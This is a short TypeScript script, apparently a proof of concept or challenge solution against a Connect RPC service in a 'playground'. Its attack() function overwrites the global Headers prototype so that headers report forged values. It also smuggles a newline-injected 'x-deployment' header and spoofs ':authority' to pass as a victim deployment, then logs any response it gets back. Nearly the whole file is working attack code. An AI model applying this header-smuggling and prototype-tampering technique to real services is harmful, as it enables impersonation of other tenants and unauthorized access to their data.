import { createClient } from "@connectrpc/connect";
import { transport } from "playground";
import { Target } from "./gen/target_pb";

import { victim } from "./victim";

/** A Headers class that says something else to whoever writes it down. */
export async function attack() {
  const client = createClient(Target, transport);
  const pairs = [
    ["x-deployment", victim],
    ["x-fine", `a\nx-deployment\n${victim}`],
    [":authority", `${victim}.localhost`],
  ];
  const { prototype } = Headers as any;
  prototype[Symbol.iterator] = prototype.entries = function* () {
    yield* pairs;
  };
  prototype.forEach = (visit: any) => {
    for (const [name, value] of pairs) visit(value, name);
  };
  prototype.get = () => victim;
  const texts: string[] = [];
  for (const headers of [new Headers(), undefined, pairs as never]) {
    const call = async () => (await client.attack({ text: "victim?" }, { headers, timeoutMs: 2_000 })).text;
    texts.push(await call().catch(() => "own victim?"));
  }
  console.log(`found: ${texts.filter((text) => text !== "own victim?").join()}`);
}
